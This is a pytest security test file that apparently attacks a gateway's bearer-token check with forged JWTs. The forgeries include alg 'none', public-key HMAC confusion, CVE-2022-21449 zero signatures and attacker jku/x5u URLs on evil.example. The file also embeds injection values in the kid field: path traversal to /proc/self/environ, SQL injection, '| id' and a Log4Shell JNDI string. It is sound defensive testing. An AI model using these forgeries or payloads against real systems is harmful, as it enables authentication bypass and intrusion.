"""Every known way to forge, twist or borrow an access token, over real HTTPS.

Each attack differs from a good token in one thing. All get one answer, compared byte for byte with the answer to a
caller who showed nothing; the host alone is told why.
"""

from __future__ import annotations

import base64
import hashlib
import json
from collections.abc import Callable

import pytest
from cryptography.hazmat.primitives import hashes, serialization

from gateway.limits import MAX_TOKEN
from sealgate.ambient import now_us
from tests.adversary.conftest import Target
from tests.adversary.forge import (
    LOW_ORDER,
    OTHER_REALM,
    REALM,
    Forge,
    b64,
    jwk,
    jws,
    key,
    mac,
    part,
    raw_ecdsa,
    unb64,
)

Attack = tuple[Callable[[Forge], str], tuple[str, ...]]

P256_ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
PEM, DER = serialization.Encoding.PEM, serialization.Encoding.DER
SPKI = serialization.PublicFormat.SubjectPublicKeyInfo


def now_s() -> int:
    return now_us() // 1_000_000


def unsigned(forge: Forge, alg: object, signature: str = "") -> str:
    return f"{part(forge.header(alg=alg))}.{part(forge.claims())}.{signature}"


def resigned(forge: Forge, change: Callable[[bytes], bytes]) -> str:
    """A good token whose signature was changed."""
    head, body, signature = forge.token().split(".")
    return f"{head}.{body}.{b64(change(unb64(signature)))}"


def brought(forge: Forge, **members: object) -> str:
    """Signed by the attacker's key, which the header brings along or points to."""
    header = forge.header("es", **members)
    return jws(key("p256 attacker"), header, forge.claims(), signed_as="ES256")


def with_key(forge: Forge, name: str, *, alg: str, kid: str = "es") -> str:
    return jws(key(name), forge.header(alg=alg, kid=kid), forge.claims(), signed_as=alg)


def confused(forge: Forge, secret: bytes, *, kid: str) -> str:
    return mac(secret, forge.header(alg="HS256", kid=kid), forge.claims())


def repeated(forge: Forge, text: str) -> str:
    """Claims that say `text` at their end, after what a first-wins parser would take."""
    return forge.signed(forge.header(), json.dumps(forge.claims())[:-1] + text)


ATTACKER = key("p256 attacker").public_key()

ALGORITHMS: dict[str, Attack] = {
    **{
        f"alg {alg!r} without a signature": (lambda f, a=alg: unsigned(f, a), ("token-malformed",))
        for alg in ("none", "None", "NONE", "nOnE")
    },
    **{
        f"alg {alg!r} with some signature": (lambda f, a=alg: unsigned(f, a, "AA"), ("algorithm-refused",))
        for alg in (
            "none",
            "None",
            "NONE",
            "nOnE",
            "es256",
            "ES256 ",
            "HS256",
            "ES256K",
            "RSA-OAEP",
            "",
            None,
            7,
            ["ES256"],
        )
    },
    **{
        f"HS256 keyed with the public {kind} key as {name}": (
            lambda f, s=secret, k=kid: confused(f, s, kid=k),
            ("algorithm-refused",),
        )
        for kid, kind in (("rs", "RSA"), ("es", "EC"))
        for name, secret in (
            ("PEM", key({"rs": "rsa realm", "es": "p256 realm"}[kid]).public_key().public_bytes(PEM, SPKI)),
            ("DER", key({"rs": "rsa realm", "es": "p256 realm"}[kid]).public_key().public_bytes(DER, SPKI)),
            ("JWK", json.dumps(jwk(key({"rs": "rsa realm", "es": "p256 realm"}[kid]).public_key())).encode()),
        )
    },
    "HS256 with an empty secret": (lambda f: confused(f, b"", kid="es"), ("algorithm-refused",)),
    "RS256 under the name of an EC key": (
        lambda f: with_key(f, "rsa realm", alg="RS256", kid="es"),
        ("algorithm-mismatch",),
    ),
    "EdDSA under the name of an RSA key": (
        lambda f: with_key(f, "ed realm", alg="EdDSA", kid="rs"),
        ("algorithm-mismatch",),
    ),
    "PS256 with a key published for RS256": (
        lambda f: with_key(f, "rsa realm", alg="PS256", kid="rs"),
        ("algorithm-refused", "algorithm-mismatch"),
    ),
    "ES384 under the name of a P-256 key": (
        lambda f: with_key(f, "p384 attacker", alg="ES384"),
        ("algorithm-refused", "algorithm-mismatch"),
    ),
    "ES256 with a P-384 key": (lambda f: with_key(f, "p384 attacker", alg="ES256"), ("signature-invalid",)),
    "ES256 with a P-521 key": (lambda f: with_key(f, "p521 attacker", alg="ES256"), ("signature-invalid",)),
    "ES256 with the attacker's own P-256 key": (
        lambda f: with_key(f, "p256 attacker", alg="ES256"),
        ("signature-invalid",),
    ),
}


def low_order(forge: Forge, point: str) -> str:
    """R is a point of small order and S is zero: holds for every message under a public key of small order."""
    text = f"{part(forge.header('ed'))}.{part(forge.claims())}"
    return f"{text}.{b64(bytes.fromhex(point) + bytes(32))}"


def sha512_signed(forge: Forge) -> str:
    text = f"{part(forge.header())}.{part(forge.claims())}"
    return f"{text}.{b64(raw_ecdsa(key('p256 realm'), text.encode(), hashes.SHA512()))}"


def der_signed(forge: Forge) -> str:
    from cryptography.hazmat.primitives.asymmetric import ec

    text = f"{part(forge.header())}.{part(forge.claims())}"
    return f"{text}.{b64(key('p256 realm').sign(text.encode(), ec.ECDSA(hashes.SHA256())))}"


SIGNATURES: dict[str, Attack] = {
    "ECDSA r = s = 0 (CVE-2022-21449)": (lambda f: resigned(f, lambda _: bytes(64)), ("signature-invalid",)),
    "ECDSA r = s = order": (
        lambda f: resigned(f, lambda _: P256_ORDER.to_bytes(32, "big") * 2),
        ("signature-invalid",),
    ),
    "ECDSA s + order": (
        lambda f: resigned(
            f, lambda raw: raw[:32] + (int.from_bytes(raw[32:], "big") + P256_ORDER).to_bytes(33, "big")
        ),
        ("signature-invalid",),
    ),
    "ECDSA in DER": (der_signed, ("signature-invalid",)),
    "ECDSA over another hash": (sha512_signed, ("signature-invalid",)),
    "a signature cut short": (lambda f: resigned(f, lambda raw: raw[:-1]), ("signature-invalid",)),
    "a signature with a byte more": (lambda f: resigned(f, lambda raw: raw + b"\0"), ("signature-invalid",)),
    "an empty signature": (lambda f: resigned(f, lambda _: b""), ("token-malformed",)),
    "a signature of one byte": (lambda f: resigned(f, lambda _: b"\0"), ("signature-invalid",)),
    "one bit of the signature": (
        lambda f: resigned(f, lambda raw: raw[:40] + bytes([raw[40] ^ 1]) + raw[41:]),
        ("signature-invalid",),
    ),
    "the signature of another token": (
        lambda f: ".".join([*f.token(tenant="oversight").split(".")[:2], f.token().split(".")[2]]),
        ("signature-invalid",),
    ),
    "claims of another token under a good signature": (
        lambda f: (lambda a, b: f"{a[0]}.{b[1]}.{a[2]}")(f.token().split("."), f.token(roles=["auditor"]).split(".")),
        ("signature-invalid",),
    ),
    **{
        f"EdDSA with R of small order ({point[:4]}…)": (lambda f, p=point: low_order(f, p), ("signature-invalid",))
        for point in LOW_ORDER
    },
}

KEYS: dict[str, Attack] = {
    "jwk in the header": (lambda f: brought(f, jwk=jwk(ATTACKER)), ("header-forbidden",)),
    "jwk in the header, without kid": (lambda f: brought(f, jwk=jwk(ATTACKER), kid=...), ("header-forbidden",)),
    "jku in the header": (lambda f: brought(f, jku="https://evil.example/jwks.json"), ("header-forbidden",)),
    "jku of a loopback service": (lambda f: brought(f, jku="http://127.0.0.1:22/"), ("header-forbidden",)),
    "x5u in the header": (lambda f: brought(f, x5u="https://evil.example/chain.pem"), ("header-forbidden",)),
    "x5c in the header": (lambda f: brought(f, x5c=["MIIBAA=="]), ("header-forbidden",)),
    "crit of a known name": (lambda f: f.headed(crit=["exp"], exp=1), ("header-forbidden",)),
    "crit of an unknown name": (lambda f: f.headed(crit=["urn:x"], **{"urn:x": 1}), ("header-forbidden",)),
    "crit that is empty": (lambda f: f.headed(crit=[]), ("header-forbidden",)),
    "b64 false": (lambda f: f.headed(b64=False, crit=["b64"]), ("header-forbidden",)),
    "zip": (lambda f: f.headed(zip="DEF"), ("header-forbidden",)),
    "a nested token (cty)": (lambda f: f.headed(cty="JWT"), ("header-forbidden",)),
    "an encrypted token (enc)": (lambda f: f.headed(enc="A128GCM"), ("header-forbidden",)),
    "no kid": (lambda f: f.headed(kid=...), ("key-unknown",)),
    **{
        f"kid {kid!r:.40}": (lambda f, k=kid: f.headed(kid=k), ("key-unknown",))
        for kid in (
            "", "ES", "es ", "../../../../dev/null", "/proc/self/environ", "es'; DROP TABLE keys;--", "es' OR '1'='1",
            "\x00", "es\x00", "http://evil.example/key", "| id", "${jndi:ldap://evil.example/a}", "ä" * 100, "x" * 4000,
            None, 0, True, ["es"], {"kid": "es"},
        )
    },
    "kid of another issuer's key": (
        lambda f: jws(key("p256 other realm"), f.header(kid="other"), f.claims(), signed_as="ES256"),
        ("key-unknown",),
    ),
}  # fmt: skip

TYPES: dict[str, Attack] = {
    f"typ {typ!r}": (lambda f, t=typ: f.headed(typ=t), ("type-mismatch",))
    for typ in (
        ..., "JWT", "jwt", "", "id+jwt", "dpop+jwt", "logout+jwt", "at+jwt ", "at+jwt;v=1", "application/jwt", None, 1,
        ["at+jwt"], "ａt+jwt", "AT+JWT\u0000",
    )
}  # fmt: skip


def around(audience: str) -> list[object]:
    """What is one character from the audience, and other near misses."""
    host = audience.removeprefix("https://")
    return [
        audience + "/", audience[:-1], audience + "0", audience.upper(), audience.replace("https", "http"), host, "",
        " " + audience, audience + " ", audience + "\x00", audience + "#", audience + ".",
        audience.replace("l", "1", 1),
        f"https://user@{host}", f"{audience}@evil.example", f"{audience}.evil.example", "*", [], [audience[:-1]],
        [[audience]], {audience: 1}, None, True, 0,
    ]  # fmt: skip


def test_the_near_misses_of_the_audience(target: Target) -> None:
    for aud in around(target.forge.audience):
        seen = target.bearer(target.forge.token(aud=aud))
        target.refused(f"audience: {aud!r}", seen, "audience-mismatch", "claims-invalid")


ISSUERS: dict[str, Attack] = {
    f"iss {iss!r}": (lambda f, i=iss: f.token(iss=i), ("issuer-unknown",))
    for iss in (
        REALM + "/", REALM[:-1], REALM.upper(), REALM.replace("https", "http"), REALM + "?", REALM + "#", REALM + " ",
        REALM + "/../realm", "https://idp.example:443/realm", "https://idp.example/%72ealm", "https://idp.example.evil/realm",
        REALM + "\x00", "", None, 0, [REALM], {REALM: 1}, ...,
    )
} | {
    "another issuer's name on the realm's signature": (lambda f: f.token(iss=OTHER_REALM), ("key-unknown",)),
    "another issuer's key for the realm's name": (
        lambda f: jws(key("p256 other realm"), f.header("es"), f.claims(), signed_as="ES256"),
        ("signature-invalid",),
    ),
    "an issuer that speaks for a tenant that is not its own": (
        lambda f: f.token("other", iss=OTHER_REALM, tenant="clinic"),
        ("tenant-not-of-issuer",),
    ),
}  # fmt: skip

REQUIRED = ("exp", "aud", "sub", "iat", "tenant", "client_id", "jti")  # RFC 9068 section 2.2, and ours

NAMES = ("a b", "a\n", "a\x00", "\u202eecila", "ä", "x" * 1025)

CLAIMS: dict[str, Attack] = {
    **{
        f"{name} left out": (lambda f, n=name: f.token(**{n: ...}), ("claims-invalid", "audience-mismatch"))
        for name in REQUIRED
    },
    **{
        f"{name} written as {text[:24]}": (
            lambda f, n=name, t=text: f.written(n, t),
            ("token-malformed", "claims-invalid"),
        )
        for name in ("exp", "iat", "nbf")
        for text in (
            "9999999999.0", "9999999999.5", "1e308", "1e309", "1E10", "-1", "0", "-0", "NaN", "Infinity", "-Infinity",
            "null", "true", '"9999999999"', "[9999999999]", "{}", "9" * 30, "1" * 4500, "09999999999", "0x7fffffff",
        )
    },
    **{
        f"{name} of {value!r:.40}": (
            lambda f, n=name, v=value: f.token(**{n: v}),
            ("claims-invalid", "tenant-not-of-issuer"),
        )
        for name, further in (("sub", NAMES), ("tenant", NAMES), ("jti", ()), ("client_id", ()))
        for value in ("", 5, None, True, ["alice"], {"sub": "alice"}, *further)
    },
    **{
        f"roles of {value!r:.40}": (lambda f, v=value: f.token(roles=v), ("claims-invalid",))
        for value in (5, [1], [["client"]], {"client": True}, ["client"] * 65, [""], ["a b"])
    },
    **{
        f"cnf of {value!r:.60}": (lambda f, v=value: f.token(cnf=v), ("claims-invalid", "token-bound-elsewhere"))
        for value in (
            {}, None, "x", [], {"kid": "es"}, {"jwk": jwk(ATTACKER)}, {"x5t#S256": 1}, {"x5t#S256": ""},
            {"x5t#S256": "x" * 44}, {"x5t#S256": "x" * 43, "kid": "y"}, {"x5t": "x" * 27}, {"osc": {}},
        )
    },
    "expired a second ago": (lambda f: f.token(iat=now_s() - 60, exp=now_s() - 1), ("token-expired",)),
    "expires now": (lambda f: f.token(exp=now_s()), ("token-expired",)),
    "issued tomorrow": (lambda f: f.token(iat=now_s() + 86400, exp=now_s() + 86500), ("token-not-yet-valid",)),
    "not before tomorrow": (lambda f: f.token(nbf=now_s() + 86400), ("token-not-yet-valid",)),
    "lives a second too long": (lambda f: f.token(iat=now_s(), exp=now_s() + 3601), ("lifetime-too-long",)),
    "lives for ever": (lambda f: f.token(exp=2**40 - 1), ("lifetime-too-long",)),
    "ends before it begins": (lambda f: f.token(iat=now_s() + 20, exp=now_s() + 10), ("lifetime-too-long",)),
}  # fmt: skip


def padded(forge: Forge, size: int) -> str:
    return forge.token(x="y" * size)


def nested(depth: int) -> str:
    return '{"a":' * depth + "1" + "}" * depth


FORMS: dict[str, Attack] = {
    "a repeated claim": (lambda f: repeated(f, ', "tenant": "oversight"}'), ("token-malformed",)),
    "a repeated claim, spelled with escapes": (
        lambda f: repeated(f, ', "ten\\u0061nt": "oversight"}'),
        ("token-malformed",),
    ),
    "a repeated name deep inside": (lambda f: repeated(f, ', "x": [{"a": 1, "a": 2}]}'), ("token-malformed",)),
    "a repeated header": (
        lambda f: f.signed('{"alg":"none","typ":"at+jwt","alg":"ES256","kid":"es"}', f.claims()),
        ("token-malformed",),
    ),
    "claims with a byte order mark": (
        lambda f: f.signed(f.header(), b"\xef\xbb\xbf" + json.dumps(f.claims()).encode()),
        ("token-malformed",),
    ),
    "claims in UTF-16": (lambda f: f.signed(f.header(), json.dumps(f.claims()).encode("utf-16")), ("token-malformed",)),
    "claims that are not UTF-8": (
        lambda f: f.signed(f.header(), json.dumps(f.claims(x="@")).encode().replace(b"@", b"\xff")),
        ("token-malformed",),
    ),
    "claims with something after them": (
        lambda f: f.signed(f.header(), json.dumps(f.claims()) + "{}"),
        ("token-malformed",),
    ),
    "claims nested 1,000 deep": (
        lambda f: f.signed(f.header(), json.dumps(f.claims(x="@")).replace('"@"', nested(1000))),
        ("token-malformed", "token-too-large"),
    ),
    **{
        f"claims that are {text}": (lambda f, t=text: f.signed(f.header(), t), ("token-malformed",))
        for text in ("[]", "1", "null", '"x"', "{", "{}x", "\x00")
    },
    **{
        f"a header that is {text}": (lambda f, t=text: f.signed(t, f.claims()), ("token-malformed",))
        for text in ("[]", "1", "null", '"x"', "{")
    },
    "two parts": (lambda f: f.token().rpartition(".")[0], ("token-malformed",)),
    "four parts": (lambda f: f.token() + ".AA", ("token-malformed",)),
    "five parts, as an encrypted token has": (lambda f: f.token() + ".AA.AA", ("token-malformed",)),
    "base64 padding": (lambda f: f.token() + "==", ("token-malformed",)),
    "base64 of the other alphabet": (
        lambda f: ".".join(
            base64.b64encode(unb64(p)).decode().rstrip("=") for p in f.token(x="\xfb\xff~~~???").split(".")
        ),
        ("token-malformed", "signature-invalid"),
    ),
    "the JSON serialisation": (
        lambda f: json.dumps(dict(zip(("protected", "payload", "signature"), f.token().split("."), strict=True))),
        ("token-malformed",),
    ),
    "a token larger than any": (lambda f: padded(f, MAX_TOKEN), ("token-too-large",)),
    "sixteen thousand dots": (lambda _: "." * 16_000, ("token-too-large",)),
    "a quoted token": (lambda f: f'"{f.token()}"', ("token-malformed",)),
    "a token with a comma": (lambda f: f.token() + ", " + f.token(), ("token-malformed", "token-too-large")),
    "a percent-encoded dot": (lambda f: f.token().replace(".", "%2E"), ("token-malformed",)),
    "an opaque token": (lambda _: "2YotnFZFEjr1zCsicMWpAA", ("token-malformed",)),
    "a hash of a token": (lambda f: hashlib.sha256(f.token().encode()).hexdigest(), ("token-malformed",)),
}

EVERY = {
    f"{group}: {name}": attack
    for group, attacks in (
        ("algorithm", ALGORITHMS), ("signature", SIGNATURES), ("key", KEYS), ("type", TYPES), ("issuer", ISSUERS),
        ("claims", CLAIMS), ("form", FORMS),
    )
    for name, attack in attacks.items()
}  # fmt: skip


@pytest.mark.parametrize("name", EVERY)
def test_no_forged_token_is_anybody(target: Target, name: str) -> None:
    make, reasons = EVERY[name]
    target.refused(name, target.bearer(make(target.forge)), *reasons)


@pytest.mark.parametrize("kid", ["es", "ed", "rs"])
def test_what_the_attacks_are_made_from_is_let_in(target: Target, kid: str) -> None:
    caller = target.served(target.bearer(target.forge.token(kid))).caller
    assert (caller.tenant, caller.subject, caller.authn) == ("clinic", "alice", "jwt")
    target.served(target.bearer(target.forge.headed(kid, typ="application/AT+JWT")))


# How a token is sent -------------------------------------------------------------------------------------------------


def sent(target: Target, name: str) -> list[tuple[str, str | bytes]]:
    token = target.forge.token()
    bearer = f"Bearer {token}"
    return {
        "no field at all": [],
        "Basic": [("Authorization", f"Basic {base64.b64encode(b'alice:secret').decode()}")],
        "Basic with the token as password": [("Authorization", f"Basic {b64(':' + token)}")],
        "no scheme": [("Authorization", token)],
        "an unknown scheme": [("Authorization", f"Token {token}")],
        "the scheme alone": [("Authorization", "Bearer")],
        "the scheme and spaces": [("Authorization", "Bearer   ")],
        "an empty field": [("Authorization", "")],
        "a tab for the space": [("Authorization", f"Bearer\t{token}")],
        "the scheme with a colon": [("Authorization", f"Bearer: {token}")],
        "the field twice, the good one first": [("Authorization", bearer), ("Authorization", "Bearer x.y.z")],
        "the field twice, the good one last": [("Authorization", "Bearer x.y.z"), ("authorization", bearer)],
        "the same field twice": [("Authorization", bearer), ("AUTHORIZATION", bearer)],
        "two tokens in one field": [("Authorization", f"Bearer {token} {token}")],
        "another word after the token": [("Authorization", f"Bearer {token} x")],
        "auth-param form": [("Authorization", f'Bearer token="{token}"')],
        "Proxy-Authorization": [("Proxy-Authorization", f"Bearer {token}")],
        "X-Forwarded-Authorization": [("X-Forwarded-Authorization", f"Bearer {token}")],
        "an underscore in the name": [("Authorization_", f"Bearer {token}")],
        "a cookie": [("Cookie", f"access_token={token}; Authorization=Bearer {token}")],
        "X-API-Key": [("X-API-Key", token)],
        "names of a user from a proxy": [(name, "alice") for name in ("X-Remote-User", "Remote-User", "X-User")],
        "DPoP scheme for a token that is bound to nothing": [("Authorization", f"DPoP {token}")],
    }[name]  # fmt: skip


@pytest.mark.parametrize(
    ("name", "reasons"),
    [
        ("no field at all", ["no-credential"]),
        ("Basic", ["scheme-unknown"]),
        ("Basic with the token as password", ["scheme-unknown"]),
        ("no scheme", ["scheme-unknown"]),
        ("an unknown scheme", ["scheme-unknown"]),
        ("the scheme alone", ["token-malformed", "scheme-unknown"]),
        ("the scheme and spaces", ["token-malformed", "scheme-unknown"]),
        ("an empty field", ["scheme-unknown"]),
        ("a tab for the space", ["scheme-unknown"]),
        ("the scheme with a colon", ["scheme-unknown"]),
        ("the field twice, the good one first", ["credential-repeated"]),
        ("the field twice, the good one last", ["credential-repeated"]),
        ("the same field twice", ["credential-repeated"]),
        ("two tokens in one field", ["token-malformed"]),
        ("another word after the token", ["token-malformed"]),
        ("auth-param form", ["token-malformed"]),
        ("Proxy-Authorization", ["no-credential"]),
        ("X-Forwarded-Authorization", ["no-credential"]),
        ("an underscore in the name", ["no-credential"]),
        ("a cookie", ["no-credential"]),
        ("X-API-Key", ["no-credential"]),
        ("names of a user from a proxy", ["no-credential"]),
    ],
)
def test_a_good_token_in_the_wrong_place_is_nothing(target: Target, name: str, reasons: list[str]) -> None:
    target.refused(f"sent as: {name}", target.ask(sent(target, name)), *reasons)


def test_a_token_in_the_address_or_the_body_is_nothing(target: Target) -> None:
    token = target.forge.token()
    for target_path in (f"/sealed/wine?access_token={token}", f"/sealed/wine?Authorization=Bearer%20{token}"):
        target.refused("sent as: a query parameter", target.ask(target=target_path), "no-credential")
    form = [("Content-Type", "application/x-www-form-urlencoded")]
    seen = target.wire.ask(form, body=f"access_token={token}".encode())
    target.refused("sent as: a form field (RFC 6750 section 2.2)", seen, "no-credential")


@pytest.mark.parametrize("path", ["/sealed/nothing", "/audit/v1/records", "/.well-known/ohttp-gateway"])
def test_every_protected_address_gives_the_same_answer(target: Target, path: str) -> None:
    """Whether the model, the record or the address exists is not told to nobody."""
    method = "GET" if path.startswith("/audit") else "POST"
    for fields in ([], [("Authorization", f"Bearer {target.forge.token(aud='x')}")]):
        seen = target.ask(fields, method=method, target=path)
        target.refused(f"at {path}", seen, "no-credential", "audience-mismatch")


# What a bad token leaves behind --------------------------------------------------------------------------------------


def test_nothing_of_a_refused_token_is_in_the_gateways_log(target: Target) -> None:
    token = target.forge.token(sub="mallory-the-subject", aud="https://elsewhere.example", jti="a-name-that-is-seen")
    target.refused("claims: aud of another service", target.bearer(token), "audience-mismatch")
    log = target.running.log.getvalue()
    assert not [piece for piece in (*token.split("."), "mallory-the-subject", "a-name-that-is-seen") if piece in log]


def test_a_good_caller_is_served_between_bad_ones_on_one_connection(target: Target) -> None:
    for _ in range(5):
        target.refused(
            "claims: between good requests",
            target.bearer(target.forge.token(exp=1)),
            "claims-invalid",
            "lifetime-too-long",
        )
        assert target.served(target.bearer(target.forge.token())).caller.subject == "alice"


def test_an_upgrade_is_no_way_around_the_door(target: Target) -> None:
    upgrade: list[tuple[str, str | bytes]] = [
        ("Connection", "Upgrade, HTTP2-Settings"),
        ("Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ=="),
        ("Sec-WebSocket-Version", "13"),
        ("HTTP2-Settings", "AAMAAABkAARAAAAAAAIAAAAA"),
    ]
    for kind in ("websocket", "h2c", "TLS/1.3"):
        seen = target.ask([("Upgrade", kind), *upgrade])
        # Before anybody asks who is calling: what follows such a head could be a request inside a body.
        assert (seen.status, seen.field("connection")) == (400, "close")
        assert target.running.host.told == []
        target.wire.close()
